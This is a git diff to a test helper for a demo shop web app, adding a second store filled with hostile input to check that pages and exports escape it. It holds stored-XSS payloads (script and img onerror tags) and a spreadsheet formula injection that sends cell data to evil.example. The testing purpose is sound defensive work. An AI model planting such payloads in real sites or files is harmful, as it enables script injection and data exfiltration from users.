@@ -1,6 +1,6 @@
 // What the tests share: a small demo shop, the server, a browser whose pages report every wrong.
-import { execFileSync, spawn } from 'node:child_process';
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import { tmpdir } from 'node:os';
 import { dirname, join, resolve } from 'node:path';
@@ -20,9 +20,22 @@ export const ADMIN = { name: 'Lin', password: 'correct horse battery' };
 export function missing() {
     if (!process.env.SHOPVANE_BIN) return 'SHOPVANE_BIN names no program';
     if (!CHROMIUM) return 'no Chromium: apt-get install chromium';
+    for (const tool of ['sqlite3', 'unzip'])
+        if (spawnSync(tool, ['-version']).error) return `no ${tool}: apt-get install ${tool}`;
     if (!existsSync(join(ROOT, 'web/node_modules/playwright-core'))) return 'no packages: tools/web_packages all';
     return null;
 }
+
+const markup = (where) => `"'><img src=x onerror="window.pwned='${where}'"><script>window.pwned='${where}'</script>`;
+/** What attackers write into the fields that a shop takes from others. */
+export const HOSTILE = {
+    markup,
+    title: markup('title'),
+    review: markup('review'),
+    channel: markup('channel'),
+    customer: markup('customer'),
+    formula: '=HYPERLINK("https://evil.example/?"&A1,"open")',
+};
 
 export class Shop {
     constructor() {
@@ -32,6 +45,33 @@ export class Shop {
         execFileSync(this.program, ['demo', this.dir, '--days', DAYS, '--orders-per-day', ORDERS_A_DAY], { stdio: 'pipe' });
         const year = String(new Date().getFullYear());
         this.run('goals', 'set', year, '--kpi', 'net_sales', '--base', '600000');
+        this.addWest();
+    }
+
+    /** A second store, whose every text is an attack: what its customers and suppliers could have written. */
+    addWest() {
+        const day = new Date(Date.now() - 3 * 86400000).toISOString().slice(0, 10);
+        const quoted = (row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
+        const bring = (target, rows) => {
+            const file = join(this.folder, `${target}.csv`);
+            writeFileSync(file, rows.map(quoted).join('\n'));
+            this.run('import', file, '--store', 'west', '--as', `generic:${target}`);
+        };
+        this.run('stores', 'add', 'west', 'team=w');
+        bring('order_lines', [
+            ['order_id', 'placed_at', 'customer_id', 'sku', 'quantity', 'unit_price', 'channel', 'city'],
+            ['W1', `${day} 10:00:00`, HOSTILE.customer, 'WEST-1', '2', '40.00', HOSTILE.channel, HOSTILE.formula],
+            ['W2', `${day} 11:00:00`, 'wu', 'WEST-2', '1', '20.00', HOSTILE.formula, HOSTILE.markup('city')],
+        ]);
+        bring('product', [
+            ['sku', 'title', 'category', 'brand', 'price'],
+            ['WEST-1', HOSTILE.title, HOSTILE.markup('category'), HOSTILE.markup('brand'), '40.00'],
+            ['WEST-2', HOSTILE.formula, HOSTILE.formula, '@brand', '20.00'],
+        ]);
+        bring('feedback', [
+            ['feedback_id', 'kind', 'sku', 'score', 'text', 'created_at'],
+            ['r1', 'review', 'WEST-1', '1', HOSTILE.review, `${day} 12:00:00`],
+        ]);
     }
 
     run(...args) {
@@ -90,14 +130,14 @@ export async function watched(context, base) {
     return page;
 }
 
-/** Until nothing is asked for, nothing is a skeleton, and every chart is drawn. */
+/** Until every question of the page is answered (not only an older one's answer shown), nothing is a skeleton, and every
+ *  chart is drawn of what it has now. The board marks each of these with the drawing that a click brings, so no waiting on time. */
 export async function settled(page) {
     await page.waitForFunction(
         () => document.querySelector('.shell main, main.bare > *') !== null && document.querySelector('.skeleton, [aria-busy="true"]') === null && document.querySelector('.chart-canvas:not([data-drawn])') === null,
         undefined,
         { timeout: 20000 },
     );
-    await page.waitForTimeout(60);
 }
 
 const axeSource = () => readFileSync(fromWeb.resolve('axe-core/axe.min.js'), 'utf8');
